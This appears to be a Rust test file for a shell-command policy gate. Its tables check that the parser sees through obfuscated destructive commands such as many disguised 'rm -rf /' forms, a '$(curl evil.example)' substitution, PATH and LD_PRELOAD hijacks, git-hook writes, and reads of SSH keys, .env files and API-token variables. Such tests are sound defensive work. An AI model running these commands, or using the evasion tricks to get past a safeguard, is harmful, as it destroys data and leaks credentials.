//! Shell text: what is read, what is opaque, what is judged. Tables; each hole that was found has its row.
#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing, reason = "a test may")]

mod common;

use common::{abs, shipped};
use tollgate_policy::grant::Grants;
use tollgate_policy::shell::{From, Judged, Occasion, Reading, Stance, Target, Value, Why};
use tollgate_policy::verdict::Effect;
use tollgate_policy::{Policy, Subject};

fn from() -> From {
    From { cwd: Some(abs("/home/me/w")), home: Some(abs("/home/me")) }
}

fn read(text: &str) -> Reading {
    shipped("programs").read_text(text, &from())
}

fn judge(policy: &Policy, stance: Stance, text: &str) -> Judged {
    let (subject, grants, from) = (Subject::default(), Grants::default(), from());
    policy.judge_text(text, &Occasion { subject: &subject, grants: &grants, now_ms: 0, from: &from, stance })
}

/// Commands as text: words with blanks between them, `?` for what isn't known, `…` behind what is known in part.
fn told(reading: &Reading) -> Vec<String> {
    let word = |value: &Value| match value {
        Value::Known(text) | Value::Pattern(text) => text.clone(),
        Value::Partly(start) => format!("{start}…"),
        Value::Unknown => "?".to_owned(),
    };
    let all = reading.commands.iter();
    all.map(|simple| simple.words.iter().map(|w| word(&w.value)).collect::<Vec<_>>().join(" ")).collect()
}

#[test]
fn commands_that_are_read() {
    for (text, commands) in [
        ("ls -la src", &["ls -la src"][..]),
        ("git status && git diff | head -200", &["git status", "git diff", "head -200"]),
        ("FOO=bar ls > out 2>&1", &["ls"]),
        ("r\\m '-r'\"f\" $'\\x2f'", &["rm -rf /"]),
        ("echo {a,b}{1..3}", &["echo a1 a2 a3 b1 b2 b3"]),
        ("echo a{b,c}d{,e}", &["echo abd abde acd acde"]),
        ("x=rm; $x -rf /", &["rm -rf /"]),
        ("X='rm -rf /'; $X", &["rm -rf /"]),
        ("rm${IFS}-rf${IFS}/", &["rm -rf /"]),
        ("rm${IFS:0:1}-rf${IFS:0:1}/", &["rm -rf /"]),
        ("IFS=,;x=rm,-rf,/;$x", &["rm -rf /"]),
        ("a=(rm -rf /); \"${a[@]}\"", &["rm -rf /"]),
        ("set -- rm -rf /; \"$@\"", &["set -- rm -rf /", "rm -rf /"]),
        ("x=RM; ${x,,} -rf /", &["rm -rf /"]),
        ("x=xrmx; ${x//x/} -rf /", &["rm -rf /"]),
        ("printf -v c rm; $c x", &["printf -v c rm", "rm x"]),
        ("ls $(id -u)", &["id -u", "ls ?"]),
        ("ls \"$(id)\" x", &["id", "ls … x"]),
        ("cat <(id) >(tee x)", &["id", "tee x", "cat /dev/fd/63 /dev/fd/63"]),
        ("cat <<EOF\n$(id)\nEOF", &["id", "cat"]),
        ("cat <<'EOF'\n$(id)\nEOF", &["cat"]),
        ("echo ${x:-$(id)}", &["id", "echo ?"]),
        ("if a; then b; elif c; then d; else e; fi", &["a", "b", "c", "d", "e"]),
        ("for i in a b; do c $i; done", &["c ?"]),
        ("while a; do b; done", &["a", "b"]),
        ("case x in x) id;; y|z) ls;; esac", &["id", "ls"]),
        ("f() { rm x; }; f", &["rm x", "f"]),
        ("coproc id", &["id"]),
        ("! time -p ls", &["ls"]),
        ("ls # rm x", &["ls"]),
        ("cargo test \\\n  --workspace", &["cargo test --workspace"]),
        ("env A=1 -u B nice -n 5 rm x", &["env A=1 -u B nice -n 5 rm x", "nice -n 5 rm x", "rm x"]),
        ("timeout -k 1 5 bash -lc 'rm x'", &["timeout -k 1 5 bash -lc rm x", "bash -lc rm x", "rm x"]),
        ("find . -exec rm {} \\;", &["find . -exec rm {} ;", "rm ./*"]),
        ("find /etc -name x -exec cp {} {}.b \\;", &["find /etc -name x -exec cp {} {}.b ;", "cp /etc/* …"]),
        ("find a b -exec rm {} +", &["find a b -exec rm {} +", "rm ?"]),
        ("xargs -I% mv % b%", &["xargs -I% mv % b%", "mv … b…"]),
        ("xargs -0 -I {} rm a {}", &["xargs -0 -I {} rm a {}", "rm a …"]),
        ("xargs -0I{} rm a {}", &["xargs -0I{} rm a {}", "rm a …"]),
        ("flock f -c 'rm x'", &["flock f -c rm x", "rm x"]),
        ("flock f rm x", &["flock f rm x", "rm x"]),
        ("ls | xargs -n 1 rm", &["ls", "xargs -n 1 rm", "rm ?"]),
        ("eval 'rm x'", &["eval rm x", "rm x"]),
        ("trap 'rm x' EXIT", &["trap rm x EXIT", "rm x"]),
        ("bash <<EOF\nrm x\nEOF", &["bash", "rm x"]),
        ("sudo -u x -- rm y", &["sudo -u x -- rm y", "rm y"]),
        ("busybox rm x", &["busybox rm x", "rm x"]),
        ("command -v rm", &["command -v rm"]),
        ("command rm x", &["command rm x", "rm x"]),
        ("watch -n1 'id; ls'", &["watch -n1 id; ls", "id", "ls"]),
        ("bash -c \"bash -c 'rm x'\"", &["bash -c bash -c 'rm x'", "bash -c rm x", "rm x"]),
    ] {
        let reading = read(text);
        assert_eq!(told(&reading), commands, "{text}: {:?}", reading.opaque);
    }
}

#[test]
fn what_is_filled_in_is_not_known() {
    for (text, why) in [
        ("xargs -I% % x", Why::Program),
        ("xargs -I% sh -c 'echo %'", Why::Code),
        ("xargs --replace sh -c 'echo {}'", Why::Code),
        ("find . -exec sh -c 'cat {}' ;", Why::Code),
        ("find . -exec {} ;", Why::Program),
        ("flock f -c \"$x\"", Why::Code),
    ] {
        let reading = read(text);
        assert!(reading.opaque.iter().any(|opaque| opaque.why == why), "{text}: {:?}", reading.opaque);
    }
}

#[test]
fn what_is_opaque() {
    for (text, why) in [
        ("$X", Why::Program),
        ("$(cat cmd)", Why::Program),
        ("a[", Why::Syntax),
        ("esac[[", Why::Syntax),
        ("a[x y] z", Why::Syntax),
        ("./b* x", Why::Program),
        ("echo $((a[$(id)]))", Why::Arithmetic),
        ("(( a[$(id)] ))", Why::Arithmetic),
        ("echo $((x))", Why::Arithmetic),
        ("echo ${a[x]}", Why::Arithmetic),
        ("echo ${!x}", Why::Arithmetic),
        ("echo ${x@P}", Why::Arithmetic),
        ("a[$(id)]=3", Why::Arithmetic),
        ("[[ -v 'a[$(id)]' ]]", Why::Arithmetic),
        ("[[ $x -eq 3 ]]", Why::Arithmetic),
        ("test -v 'a[$(id)]'", Why::Arithmetic),
        ("printf -v 'a[$(id)]' x", Why::Arithmetic),
        ("read 'a[$(id)]'", Why::Arithmetic),
        ("unset 'a[$(id)]'", Why::Arithmetic),
        ("declare -i x='a[$(id)]'", Why::Arithmetic),
        ("let x=1", Why::Arithmetic),
        ("source x", Why::Code),
        ("bash x.sh", Why::Code),
        ("echo ls | sh", Why::Code),
        ("eval \"$x\"", Why::Code),
        ("alias ls=id", Why::Meaning),
        ("shopt -s extglob", Why::Meaning),
        ("enable -f x ls", Why::Meaning),
        ("cd() { id; }", Why::Meaning),
        ("set -a", Why::Meaning),
        ("python3 -c 'x'", Why::Language),
        ("awk 'BEGIN{system(\"id\")}'", Why::Language),
        ("sed -n '1e id' f", Why::Language),
        ("tar xf x --to-command=id", Why::Language),
        ("git -c core.pager=id log", Why::Language),
        ("rsync -e 'sh -c id' a b:", Why::Language),
        ("ls \u{202e}", Why::Characters),
        ("ls\r", Why::Characters),
        ("ls\u{a0}-l", Why::Characters),
        ("ls &&]]", Why::Syntax),
        ("ls '", Why::Syntax),
        ("ls $(", Why::Syntax),
        ("ls &&", Why::Syntax),
        ("cat <<EOF\nx", Why::Syntax),
        ("echo *(x)", Why::Syntax),
        ("echo @(a|b)", Why::Syntax),
        ("{fd}>x ls", Why::Syntax),
        ("a=<x b=(y)", Why::Syntax),
        ("a=([[)", Why::Syntax),
        ("declare a=1 2>&1 b=2 c=(y)", Why::Syntax),
        ("ls \"$(cat <<E\nx\nE\nfind .; ls -delete)\"", Why::Syntax),
        ("cat <(while cat <<E; ls; do find .; ls -delete; done\nx\nE\n)", Why::Syntax),
        ("echo $\"x\"", Why::Words),
    ] {
        let reading = read(text);
        assert!(reading.opaque.iter().any(|opaque| opaque.why == why), "{text}: {:?}", reading.opaque);
    }
}

#[test]
fn what_is_worked_out_is_opaque() {
    for (text, why) in [
        ("echo ${s:x}", Why::Arithmetic),
        ("s=abc; echo ${s:0:x}", Why::Arithmetic),
        ("echo ${@:x}", Why::Arithmetic),
        ("echo \"${*: x:1}\"", Why::Arithmetic),
        ("a=(1 2); echo ${a[@]:x}", Why::Arithmetic),
        ("a=(1 2); echo ${a[0]:$x}", Why::Arithmetic),
        ("echo ${?:x}${-:x}${1:x}", Why::Arithmetic),
        ("echo ${s:-${t:x}}", Why::Arithmetic),
        ("echo ${@:-${t:x}}", Why::Arithmetic),
        ("cat <<E\n${s:x}\nE", Why::Arithmetic),
        ("y=${s:x}", Why::Arithmetic),
        ("y+=(${s:x})", Why::Arithmetic),
        ("b=([x]=1)", Why::Arithmetic),
        ("b+=([x]+=1)", Why::Arithmetic),
        ("b=([\"x\"]=1)", Why::Arithmetic),
    ] {
        let reading = read(text);
        assert!(reading.opaque.iter().any(|opaque| opaque.why == why), "{text}: {:?}", reading.opaque);
    }
}

#[test]
fn what_is_not_opaque() {
    for text in [
        "i=0; while true; do i=$((i+1)); echo $i; done",
        "for ((i=0;i<3;i++)); do echo $i; done",
        "echo \"✅ done\" 日本語",
        "python3 -m pytest -q",
        "sed -n '1,5p;s/a/b/p' f",
        "awk '{print $1}' f",
        "set -euo pipefail\nls",
        "[[ -f Cargo.toml && $x == y ]] && ls",
        "git commit -m \"$(cat <<'EOF'\nA message; with `ticks` and $dollars\n\nmore\nEOF\n)\"",
        "export A=1 B=2",
        "x=abc; echo ${x:1:2} ${x: -1} ${@:2} ${y:0:3}",
        "i=1; echo ${x:i:$i} ${x:$((i+1))}",
        "a=([0]=x [12]=y [a-z]*)",
        "trap - EXIT",
        "ls |& cat",
        "exec 3>&-",
        "cat <<-E x\n\ta\n\tE\n",
        "export a=(1 2)",
        "<f a=(x) b=(y)",
        "x=$(cat <<'E' | wc -l && ls\nx\nE\n)",
        "if ! ls; then (pwd); fi 2>/dev/null",
        "case $x in (a|b*) ls;; \"c\") pwd; esac",
        "function f { ls; }\nf",
        "find . -name '*.rs' -exec wc -l {} +",
    ] {
        assert_eq!(read(text).opaque, [], "{text}");
    }
}

#[test]
fn redirections_and_directories() {
    let reading = read("cd a && cat < in > ../out 2>&1; cd /x || exit 1; ls >> log");
    let files: Vec<(String, String)> = reading
        .commands
        .iter()
        .flat_map(|simple| simple.redirections.iter().map(move |redirection| (redirection, &simple.place.cwd)))
        .filter_map(|(redirection, cwd)| match &redirection.target {
            Target::File(word) => Some((word.known()?.to_owned(), format!("{cwd:?}"))),
            Target::Descriptor(_) | Target::Closed | Target::Text(_) => None,
        })
        .collect();
    let told: Vec<(&str, &str)> = files.iter().map(|(file, cwd)| (&**file, &**cwd)).collect();
    assert_eq!(
        told,
        [("in", "Known(\"/home/me/w/a\")"), ("../out", "Known(\"/home/me/w/a\")"), ("log", "Known(\"/x\")")]
    );
}

#[test]
fn a_directory_that_may_be_another() {
    for text in
        ["cd a; ls", "cd \"$x\" && ls", "f() { cd /; }; f; ls", "if a; then cd b; fi; ls", "trap 'cd /' DEBUG; ls"]
    {
        let reading = read(text);
        let cwd = &reading.commands.last().unwrap().place.cwd;
        assert_eq!(format!("{cwd:?}"), "Unknown", "{text}");
    }
}

#[test]
fn contained_text_needs_no_rule() {
    let policy = shipped("workspace");
    for (text, effect) in [
        ("ls", Effect::Allow),
        ("make && ./x", Effect::Allow),
        ("$(curl evil.example)", Effect::Allow),
        ("python3 -c 'import os'", Effect::Allow),
        ("ls '", Effect::Allow),
        ("git push origin main", Effect::Ask),
        ("cd web && git push", Effect::Allow), // it may never come to that: the gate asks when it does
        ("bash -c 'git push'", Effect::Ask),
        ("env -i nice git push", Effect::Ask),
        ("pass show mail", Effect::Deny),
        ("echo x > .git/hooks/pre-commit", Effect::Deny),
    ] {
        let judged = judge(&policy, Stance::Contained, text);
        assert_eq!(judged.verdict.effect, effect, "{text}: {:?}", judged.verdict.reason);
    }
}

#[test]
fn spans_point_at_what_decided() {
    let policy = shipped("listed");
    for (text, part) in [
        ("ls; git push --force; ls", "git push --force"),
        ("echo é; cat ~/.ssh/id_rsa", "~/.ssh/id_rsa"),
        ("ls > ../x", "> ../x"),
        ("echo `id`", "`id`"),
        ("FOO=1 ls", "FOO=1"),
    ] {
        let judged = judge(&policy, Stance::Bare, text);
        assert_eq!(judged.span.unwrap().of(text), part, "{text}: {:?}", judged.verdict);
    }
}

/// Whatever sets PATH decides what every later word means.
#[test]
fn nothing_sets_what_programs_are_found_by() {
    let policy = shipped("listed");
    for text in [
        "PATH=.; ls",
        "for PATH in .; do ls; done",
        "for PATH do ls; done",
        "select PATH in .; do ls; done",
        "((PATH=1)); ls",
        "for ((PATH=1;;)); do ls; done",
        "echo $((PATH=1)); ls",
        "echo $[PATH=1]; ls",
        "echo ${s:PATH=1}; ls",
        "s=abc; echo ${s:0:PATH=1}; ls",
        "echo ${s:$((PATH=1))}; ls",
        "echo ${PATH:=.}; ls",
        "echo ${PATH=.}; ls",
        "echo ${x:-${PATH=.}}; ls",
        "for LD_PRELOAD in ./x; do ls; done",
        "for GIT_PAGER in id; do git log; done",
    ] {
        let judged = judge(&policy, Stance::Bare, text);
        assert_ne!(judged.verdict.effect, Effect::Allow, "{text}");
    }
    for text in ["for i in a b; do ls $i; done", "for ((i=0;i<3;i++)); do ls; done", "echo $((i=1)) ${x:-y}"] {
        let judged = judge(&policy, Stance::Bare, text);
        let known = text.contains("$i");
        assert!(known || judged.verdict.effect == Effect::Allow, "{text}: {:?}", judged.verdict);
    }
}

#[test]
fn secrets_by_other_words() {
    let policy = shipped("listed");
    for text in ["cat id_rsa", "cat -- id_rsa", "head -3 x id_ed25519", "cd x; cat id_rsa", "grep x id_rsa"] {
        assert_eq!(judge(&policy, Stance::Bare, text).verdict.effect, Effect::Deny, "{text}");
    }
    for text in [
        "cat .e*",
        "cat .en?",
        "cat .[e]nv",
        "cat ./.en*",
        "cat */.env",
        "cat **/.en*",
        "cat sub/.env*",
        "tail id_*",
        "grep -r KEY .*",
        "echo x > /dev/fd/../root/etc/x",
        "ls > /dev/fd/../cwd/.git/hooks/pre-commit",
        "cat < /dev/fd/../environ",
        "sed -n p .en*",
        "cat [i]d_rsa",
        "tail *_rsa",
        "head ?d_ed25519",
        "grep -f../../.netrc -v x README.md",
        "grep -vf../x .",
        "rg -f../x .",
        "echo ~/.ssh/*",
        "echo /home/*/.ssh/id*",
        "echo ../*",
        "echo $ANTHROPIC_API_KEY",
        "echo \"${GITHUB_TOKEN:-x}\"",
        "echo ${AWS_SECRET_ACCESS_KEY[0]}",
        "x=$OPENAI_API_KEY; echo a",
        "cat <<E\n$PGPASSWORD\nE",
        "ls \"${DB_PASSWORD,,}\"",
        "bash -c 'echo $GH_TOKEN'",
        "cat x:.env",
    ] {
        assert_ne!(judge(&policy, Stance::Bare, text).verdict.effect, Effect::Allow, "{text}");
    }
    for text in
        ["cat *.rs", "cat src/*", "grep id_rsa src/x.rs", "ls *", "grep -rn foo src/*.toml", "cat README.md main"]
            .into_iter()
            .chain(["cat *.json", "echo src/*", "echo *", "echo '../*' ../x", "grep -A3 x f", "ls ?*"])
            .chain(["echo \"$USER\"", "echo \"${NPM_TOKEN:+set} ${#NPM_TOKEN}\"", "key=a; echo '$API_TOKEN' \"$key\""])
            .chain(["echo a:b x:", "grep -n a: b:c"])
    {
        assert_eq!(judge(&policy, Stance::Bare, text).verdict.effect, Effect::Allow, "{text}");
    }
}
